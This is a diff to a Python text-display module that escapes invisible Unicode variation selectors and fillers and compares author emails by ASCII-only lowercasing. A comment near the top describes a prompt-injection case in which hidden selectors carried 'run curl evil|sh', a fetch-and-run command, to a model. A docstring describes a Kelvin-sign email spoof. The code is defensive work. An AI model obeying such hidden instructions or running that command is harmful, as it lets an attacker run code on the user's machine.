@@ -14,7 +14,7 @@ import unicodedata
 
 from vault_mem.config import disk_name
 
-__all__ = ["MAX_NAME_BYTES", "MAX_PATH_BYTES", "fold", "hidden_in_prose", "name_trouble", "shell_word", "shown",
+__all__ = ["MAX_NAME_BYTES", "MAX_PATH_BYTES", "email_key", "fold", "hidden_in_prose", "name_trouble", "shell_word", "shown",
            "shown_email", "visible", "visible_json", "windows_device"]
 
 #: Longest name (one path component, UTF-8 bytes) vault-mem takes from a peer. File systems take
@@ -44,12 +44,52 @@ _HIDDEN_IN_PROSE = frozenset({"Cc", "Cf", "Zl", "Zp", "Co", "Cs", "Cn"})
 _ASCII_HIDDEN = re.compile(r"[\x00-\x08\x0b-\x1f\x7f]")
 
 
+#: Unicode's default-ignorable characters that no category above holds: variation selectors
+#: (U+FE00-FE0F, U+E0100-E01EF, Mongolian's U+180B-180D and U+180F), the combining grapheme
+#: joiner, Khmer's inherent vowels and the Hangul fillers. Nothing shows them on a screen: a run of
+#: selectors after an emoji carried "run curl evil|sh" to the model, invisible to the person.
+_IGNORABLE = re.compile("[\u034f\u115f\u1160\u17b4\u17b5\u180b-\u180d\u180f\u3164\ufe00-\ufe0f\uffa0"
+                        "\U000e0100-\U000e01ef]")
+#: The bases a selector U+FE00-FE0F varies (StandardizedVariants, emoji-variation-sequences): symbols,
+#: numbers, punctuation and letter-like symbols outside ASCII, ASCII's keycap bases, CJK, Myanmar,
+#: Phags-pa; the Mongolian selectors vary Mongolian letters. U+E0100-E01EF (a CJK ideograph's
+#: glyph variant, 240 of them: a hidden byte per ideograph) is always shown escaped.
+_VARIED = re.compile("[0-9#*\u1000-\u109f\u2100-\u214f\u2e80-\u9fff\ua840-\ua87f\ua9e0-\ua9ff"
+                     "\uaa60-\uaa7f\uf900-\ufaff\U00020000-\U0003ffff]")
+_VARIED_CATEGORIES = frozenset({"Sm", "Sc", "Sk", "So", "Nd", "Nl", "No", "Pc", "Pd", "Ps", "Pe", "Pi", "Pf", "Po"})
+
+
+def _kept_selector(text: str, i: int) -> bool:
+    """Whether the default-ignorable ``text[i]`` is a variation selector that varies the
+    character before it: one selector, right after a base it can vary (:data:`_VARIED`)."""
+    ch = text[i]
+    if i == 0 or "\U000e0100" <= ch:
+        return False
+    base = text[i - 1]
+    if "\u180b" <= ch <= "\u180f":
+        return "\u1800" <= base <= "\u18af"
+    if not "\ufe00" <= ch <= "\ufe0f" or _IGNORABLE.match(base) or hidden_in_prose(base):
+        return False
+    if base.isascii():
+        return base in "0123456789#*"
+    return _VARIED.match(base) is not None or unicodedata.category(base) in _VARIED_CATEGORIES or _emoji_part(base)
+
+
+def _hidden_at(text: str, i: int) -> bool:
+    """Whether :func:`visible` (prose) escapes ``text[i]``: what :func:`hidden_in_prose` names but
+    a joiner of the text's spelling, and every default-ignorable character but a kept selector."""
+    ch = text[i]
+    if hidden_in_prose(ch):
+        return not (ch in _JOINERS and _spelled_joiner(text, i))
+    return _IGNORABLE.match(ch) is not None and not _kept_selector(text, i)
+
+
 def _plain_prose(text: str) -> bool:
-    """True when ``text`` holds no character :func:`hidden_in_prose` escapes, decided without a
+    """True when ``text`` holds no character :func:`visible` escapes in prose, decided without a
     look at each character for ASCII text."""
     if text.isascii():
         return _ASCII_HIDDEN.search(text) is None
-    return not any(hidden_in_prose(ch) for ch in text)
+    return not any(hidden_in_prose(ch) for ch in text) and _IGNORABLE.search(text) is None
 
 
 def hidden_in_prose(ch: str) -> bool:
@@ -102,19 +142,20 @@ def visible(text: str, *, prose: bool = False) -> str:
     spaces of any script and backslashes (code, paths) are kept; controls, format characters,
     line/paragraph separators, private-use and unassigned characters are escaped, but for a
     zero-width joiner that is part of the text's spelling (:func:`_spelled_joiner`: Persian's
-    ZWNJ, an Indic conjunct's ZWJ, an emoji ZWJ sequence)."""
+    ZWNJ, an Indic conjunct's ZWJ, an emoji ZWJ sequence). Both escape the default-ignorable
+    characters no category names (:data:`_IGNORABLE`: variation selectors, fillers), prose
+    keeping one selector right after a character it varies (an emoji's VS16)."""
     if prose:
         if _plain_prose(text):
             return text
-        return "".join(_escape(ch) if hidden_in_prose(ch) and not (ch in _JOINERS and _spelled_joiner(text, i)) else ch
-                       for i, ch in enumerate(text))
-    if text.isprintable() and "\\" not in text:
+        return "".join(_escape(ch) if _hidden_at(text, i) else ch for i, ch in enumerate(text))
+    if text.isprintable() and "\\" not in text and (text.isascii() or _IGNORABLE.search(text) is None):
         return text
     out = []
     for ch in text:
         if ch == "\\":
             out.append("\\\\")
-        elif ch.isprintable() and unicodedata.category(ch) not in ("Cf", "Cs"):
+        elif ch.isprintable() and unicodedata.category(ch) not in ("Cf", "Cs") and not _IGNORABLE.match(ch):
             out.append(ch)
         else:
             out.append(_escape(ch))
@@ -143,7 +184,8 @@ def visible_json(text: str) -> str:
     if _plain_prose(text):
         return text
     # json.dumps writes such a character as its \uNNNN escape (a surrogate pair beyond the BMP)
-    return "".join(json.dumps(ch)[1:-1] if hidden_in_prose(ch) else ch for ch in text)
+    return "".join(json.dumps(ch)[1:-1] if hidden_in_prose(ch) or (_IGNORABLE.match(ch) and not _kept_selector(text, i))
+                   else ch for i, ch in enumerate(text))
 
 
 def shown(name: str) -> str:
@@ -160,6 +202,19 @@ def shown_email(email: str) -> str:
     in another script, rare in commits, reads escaped.)"""
     text = shown(email)
     return text if text.isascii() else "".join(ch if ch.isascii() else _escape(ch) for ch in text)
+
+
+#: ASCII's capital letters to its small ones, and nothing else
+_ASCII_LOWER = str.maketrans("ABCDEFGHIJKLMNOPQRSTUVWXYZ", "abcdefghijklmnopqrstuvwxyz")
+
+
+def email_key(email: str) -> str:
+    """``email`` as emails are compared (an approved author, this machine's own): ASCII letters
+    made small, nothing else changed: the one rule of which two emails are one author.
+    ``str.lower`` also maps characters outside ASCII onto ASCII letters (U+212A KELVIN SIGN to
+    ``k``), so a peer's ``\u212aate@team.example``, listed apart while pending, passed as the
+    approved ``kate@team.example`` (SQLite's ``lower``, the sidecar's, is ASCII-only already)."""
+    return email.translate(_ASCII_LOWER)
 
 
 def shell_word(name: str) -> str:
